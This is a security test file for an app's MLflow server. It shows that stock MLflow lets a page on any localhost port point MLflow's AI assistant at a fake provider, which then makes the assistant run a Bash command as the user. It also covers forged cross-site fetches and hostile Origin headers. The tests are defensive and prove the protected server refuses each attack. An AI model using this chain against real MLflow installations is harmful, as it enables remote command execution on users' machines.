"""The MLflow server that `up` and the stack start, against attacks that work on MLflow's own, which runs beside it."""

from __future__ import annotations

import json
import shutil
import statistics
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support.mlflow_server import PASSWORD, USER, app_settings, mlflow_server
from tests.support.routes import check_routes, routes_of_process

pytestmark = pytest.mark.slow
ASSISTANT = "/ajax-api/3.0/mlflow/assistant"
EXPERIMENTS = "/api/2.0/mlflow/experiments"
LOCALHOST_PAGE = {"Origin": "http://localhost:3000"}
READ_MS = 100  # 14 with checked passwords remembered, 299 without


@pytest.fixture(scope="module")
def plain(empty_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """MLflow's own server, asked without a password, as it has none."""
    folder = tmp_path_factory.mktemp("plain")
    shutil.copy(empty_store, folder)
    with mlflow_server(folder) as url, httpx.Client(base_url=url, trust_env=False, timeout=60) as client:
        yield client


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("elsewhere")


@pytest.fixture(scope="module")
def ours(empty_store: Path, elsewhere: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """Our app, asked with the password, as a browser does that knows it."""
    folder = tmp_path_factory.mktemp("ours")
    shutil.copy(empty_store, folder)
    started = mlflow_server(folder, "--app-name", "shardline", environment=app_settings(folder), cwd=elsewhere)
    with started as url, httpx.Client(base_url=url, trust_env=False, timeout=60, auth=(USER, PASSWORD)) as client:
        yield client


class Attacker(BaseHTTPRequestHandler):
    """A server of the attacker's: it lists models, and its model asks for Bash once."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self._answer(json.dumps({"models": [{"name": "evil"}], "data": [{"id": "evil"}]}), kind="application/json")

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        commands = self.server.commands  # type: ignore[attr-defined]
        call = {"name": "Bash", "arguments": json.dumps({"command": commands.pop()})} if commands else None
        calls = [{"index": 0, "id": "call", "type": "function", "function": call}]
        delta = {"role": "assistant", "tool_calls": calls} if call else {"role": "assistant", "content": "done"}
        choice = {"index": 0, "delta": delta, "finish_reason": "tool_calls" if call else "stop"}
        self._answer(f"data: {json.dumps({'choices': [choice]})}\n\ndata: [DONE]\n\n", kind="text/event-stream")

    def _answer(self, text: str, *, kind: str) -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, format: str, *args: object) -> None:
        """Keep stderr for the tests."""


@pytest.fixture
def attacker() -> Iterator[Any]:
    server: Any = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    server.asked, server.commands = [], []
    server.url = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def run_bash(client: httpx.Client, attacker: Any, command: str, headers: dict[str, str]) -> list[int]:
    """The attack in three requests; their statuses."""
    attacker.commands.append(command)
    provider = {"base_url": attacker.url, "model": "evil", "selected": True, "permissions": {"full_access": True}}
    replies = [client.put(f"{ASSISTANT}/config", json={"providers": {"ollama": provider}}, headers=headers)]
    replies.append(client.post(f"{ASSISTANT}/message", json={"message": "hi"}, headers=headers))
    stream = replies[-1].json().get("stream_url", "") if replies[-1].is_success else ""
    replies.append(client.get(stream or f"{ASSISTANT}/sessions/any/stream", headers=headers))
    return [reply.status_code for reply in replies]


def test_the_assistant_runs_a_command_on_mlflows_own_server_and_not_on_ours(
    plain: httpx.Client, ours: httpx.Client, attacker: Any, tmp_path: Path
) -> None:
    canary = tmp_path / "canary"
    assert run_bash(plain, attacker, f"touch {canary}", LOCALHOST_PAGE) == [200, 200, 200]
    assert canary.exists(), "a page of any port of localhost runs a command as the user"
    canary.unlink()
    assert run_bash(ours, attacker, f"touch {canary}", LOCALHOST_PAGE) == [403, 403, 403]
    assert run_bash(ours, attacker, f"touch {canary}", {}) == [404, 404, 404], "nor who has the password"
    ours_without = httpx.Client(base_url=ours.base_url, trust_env=False, timeout=60)
    assert run_bash(ours_without, attacker, f"touch {canary}", {}) == [401, 401, 401]
    assert not canary.exists()


def test_the_server_fetches_no_address_of_a_strangers(plain: httpx.Client, ours: httpx.Client, attacker: Any) -> None:
    fetch = f"{ASSISTANT}/providers/ollama/models?base_url={attacker.url}"
    image = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}  # <img src=…>, which has no Origin
    plain.get(fetch, headers=image)
    assert attacker.asked, "asked for any page"
    attacker.asked.clear()
    assert (ours.get(fetch, headers=image).status_code, ours.get(fetch).status_code) == (403, 404)
    assert attacker.asked == []


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", f"{ASSISTANT}/config"),
        ("POST", f"{ASSISTANT}/skills/install"),
        ("POST", "/gateway/any/mlflow/invocations"),
        ("POST", "/gateway/mlflow/v1/chat/completions"),
        ("POST", "/ajax-api/2.0/mlflow/gateway-proxy"),
        ("POST", "/ajax-api/3.0/mlflow/gateway/secrets/create"),
        ("POST", "/api/3.0/mlflow/gateway/endpoints/create"),
        ("POST", "/ajax-api/3.0/jobs/search"),
        ("GET", "/ajax-api/3.0/jobs/1"),
        ("GET", "/ajax-api/3.0/mlflow/jobs/1"),
        ("POST", "/api/3.0/mlflow/prompt-optimization/jobs"),
        ("GET", "/ajax-api/3.0/mlflow/mcp-servers"),
        ("GET", "/api/3.0/mlflow/mcp-servers/search"),
        ("POST", "/v1/traces"),
        ("POST", "/v1/metrics"),
        ("POST", "/ajax-api/3.0/mlflow/scorer/invoke"),
        ("POST", "/ajax-api/3.0/mlflow/genai/evaluate/invoke"),
        ("POST", "/ajax-api/3.0/mlflow/issues/invoke"),
        ("POST", "/ajax-api/2.0/mlflow/runs/create-promptlab-run"),
        ("POST", "/ajax-api/2.0/mlflow/runs/../gateway-proxy"),
    ],
)
def test_doors_that_nobody_here_uses_are_not_there(ours: httpx.Client, method: str, path: str) -> None:
    assert ours.request(method, path, json={}).status_code in {404, 405}
    assert httpx.request(method, f"{ours.base_url}{path}", json={}, trust_env=False).status_code in {401, 404, 405}


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),
        ({"Origin": "SELF"}, 200),
        ({"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}, 200),
        ({"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}, 200),  # a link of Prefect's page
        (LOCALHOST_PAGE, 403),
        ({"Origin": "http://127.0.0.1:4200"}, 403),
        ({"Origin": "http://[::1]:5000"}, 403),
        ({"Origin": "https://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "SELF.evil.example"}, 403),
        ({"Origin": "http://127.0.0.1@evil.example"}, 403),
        ({"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors"}, 403),
        ({"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}, 403),
    ],
    ids=str,
)
def test_only_pages_of_its_own_origin_are_answered(ours: httpx.Client, headers: dict[str, str], status: int) -> None:
    sent = {name: value.replace("SELF", str(ours.base_url)) for name, value in headers.items()}
    for path in (f"{EXPERIMENTS}/search?max_results=1", "/ajax-api/2.0/mlflow/experiments/search?max_results=1", "/"):
        reply = ours.get(path, headers=sent)
        assert reply.status_code == status, path
        assert reply.headers.get("access-control-allow-origin", sent.get("Origin")) == sent.get("Origin")
    name = f"page {headers}"
    assert ours.post(f"{EXPERIMENTS}/create", json={"name": name}, headers=sent).status_code == status
    asked = sent | {"Access-Control-Request-Method": "POST"}
    assert (ours.options(f"{EXPERIMENTS}/create", headers=asked).status_code < 400) == (status == 200)


def test_without_the_password_nothing_is_answered_but_health(ours: httpx.Client) -> None:
    paths = ("/", f"{EXPERIMENTS}/search?max_results=1", "/graphql", "/get-artifact", "/api/2.0/mlflow/users/list")
    for path in (*paths, "/api/2.0/mlflow-artifacts/artifacts", "/signup", "/no/such/page"):
        assert httpx.get(f"{ours.base_url}{path}", trust_env=False).status_code == 401, path
        wrong = httpx.get(f"{ours.base_url}{path}", auth=(USER, "wrong-password"), trust_env=False)
        assert wrong.status_code == 401, path
    assert httpx.get(f"{ours.base_url}/health", trust_env=False).text == "OK"


def test_a_password_that_was_checked_is_not_checked_for_each_request(ours: httpx.Client) -> None:
    took_ms = []
    for _ in range(30):
        began = time.perf_counter()
        ours.get(f"{EXPERIMENTS}/search?max_results=1").raise_for_status()
        took_ms.append(1000 * (time.perf_counter() - began))
    assert statistics.median(took_ms) < READ_MS


def test_its_users_are_not_in_the_working_directory(ours: httpx.Client, elsewhere: Path) -> None:
    assert list(elsewhere.iterdir()) == []


def test_a_new_password_in_its_settings_is_taken_at_the_next_start(empty_store: Path, tmp_path: Path) -> None:
    shutil.copy(empty_store, tmp_path)
    settings = app_settings(tmp_path)
    for password in (PASSWORD, "another-password"):
        env = settings | {"MLFLOW_AUTH_ADMIN_PASSWORD": password}
        with mlflow_server(tmp_path, "--app-name", "shardline", "--workers", "2", environment=env) as url:
            search = f"{url}{EXPERIMENTS}/search?max_results=1"
            assert httpx.get(search, auth=(USER, password), trust_env=False).status_code == 200
    assert "Traceback" not in (tmp_path / "server.log").read_text(), "two workers made the users' tables"


def test_every_route_is_listed(tmp_path: Path) -> None:
    settings = app_settings(tmp_path) | {"_MLFLOW_SGI_NAME": "uvicorn"}
    check_routes("mlflow", routes_of_process("mlflow", settings))
